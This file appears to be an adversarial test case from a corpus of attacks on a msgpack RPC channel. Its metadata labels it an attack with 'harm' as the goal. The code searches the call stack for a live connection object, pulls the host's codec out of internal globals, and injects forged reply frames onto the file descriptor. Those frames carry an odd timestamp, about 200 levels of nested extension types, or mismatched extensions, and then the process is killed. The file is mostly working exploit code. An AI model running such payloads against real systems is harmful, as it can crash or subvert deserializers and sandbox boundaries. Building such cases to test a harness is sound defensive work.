# /// attack
# tries = "Answers with msgpack's own timestamp, tuples within tuples within tuples, and extensions that hold no list."
# gain = "harm"
# plain = "nothing"
# ///
import os
import struct
import sys

def connection():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "session") and hasattr(me, "fd"):
            return me
        frame = frame.f_back
    return None


def send(make):
    me = connection()
    if me is None:
        return None
    codec = type(me).write.__globals__["wire"].msgpack
    data = codec.packb([me._number, "value", make(codec), "", []], strict_types=True)
    os.write(me.fd, struct.pack(">I", len(data)) + data)
    os._exit(0)


def nested(codec, depth=200, kind=1):
    item = codec.packb([])
    for _ in range(depth):
        item = codec.packb([codec.ExtType(kind, item)])
    return codec.ExtType(kind, item)


def double(x):
    return send(lambda codec: codec.Timestamp(2**34, 7))


class Box:
    def put(self, x):
        send(nested)

    def take(self):
        return None


def apply(f, x):
    return send(lambda codec: codec.ExtType(1, codec.packb({"a": codec.ExtType(6, codec.packb([1]))})))
